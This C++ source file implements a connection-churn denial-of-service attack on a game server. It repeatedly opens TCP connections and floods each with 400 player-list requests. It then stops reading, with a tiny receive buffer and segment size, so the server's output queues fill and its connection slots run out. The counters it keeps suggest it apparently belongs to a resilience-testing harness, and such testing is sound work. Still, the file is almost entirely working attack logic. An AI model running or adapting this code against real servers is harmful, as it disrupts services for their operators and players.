#include "ChurnAttack.h"

#include "AttackBatches.h"

#include <algorithm>

namespace {
constexpr double kPerSecond = 25;
// A small window and the smallest segments, yet the system still takes some 200-260 kB of a
// closed connection's output off the server's hands; the rest of 400 replies of a 36-player
// list (about 500 kB in all) stays in the server's own queue.
constexpr int kRequests = 400; // GETLST per connection
constexpr int kReceiveBuffer = 4096;
constexpr int kMaxSegment = 88;
constexpr int kMaxInFlight = 4;            // connected but not yet asked (each holds a slot)
constexpr size_t kMaxOpen = 2000;          // descriptors this side may hold
constexpr int64_t kHoldNs = 15 * kSec;     // then the connection is dropped
constexpr int64_t kRefusedWithinNs = kSec; // a close this soon after opening is a refusal
} // namespace

void ChurnAttack::start() {
    period_ = int64_t(1e9 / (kPerSecond * ctx_.opt.attackRate));
    tick();
}

void ChurnAttack::sweep(int64_t now) {
    for (auto it = peers_.begin(); it != peers_.end();) {
        if (it->gone || now - it->openedAt > kHoldNs)
            it = peers_.erase(it);
        else
            ++it;
    }
}

void ChurnAttack::tick() {
    if (!ctx_.sending()) return;
    const int64_t now = nowNs();
    sweep(now);
    const auto inFlight =
        std::count_if(peers_.begin(), peers_.end(), [](const Peer& p) { return !p.asked && !p.gone; });
    if (inFlight < kMaxInFlight && peers_.size() < kMaxOpen)
        openOne();
    else
        ++figures_.heldBack;
    figures_.peakOpen = std::max<uint64_t>(figures_.peakOpen, peers_.size());
    ctx_.loop.after(period_, [this] { tick(); });
}

void ChurnAttack::openOne() {
    peers_.emplace_back();
    Peer* p = &peers_.back();
    p->openedAt = nowNs();
    auto asked = [this, p] {
        const std::string requests =
            attackbatch::repeated("GETLST", "", kRequests) + attackbatch::repeated("VALEND", "", 1);
        p->conn->setReading(false);
        p->conn->send(requests);
        p->asked = true;
        ++figures_.writes;
        figures_.bytes += requests.size();
        figures_.messages += kRequests + 1;
    };
    auto closed = [this, p] {
        // Soon after opening: refused (every slot taken). Later: the server gave up on what
        // it had to send.
        if (nowNs() - p->openedAt < kRefusedWithinNs) ++figures_.closedByServer;
        p->gone = true;
    };
    p->conn = std::make_unique<Conn>(ctx_.loop, Conn::Callbacks{asked, nullptr, closed, nullptr});
    p->conn->setMaxSegment(kMaxSegment);
    ++figures_.connections;
    p->conn->setSource(ctx_.attackSource);
    if (!p->conn->open(ctx_.playerAddr, kReceiveBuffer)) {
        ++figures_.closedByServer;
        p->gone = true;
    }
}
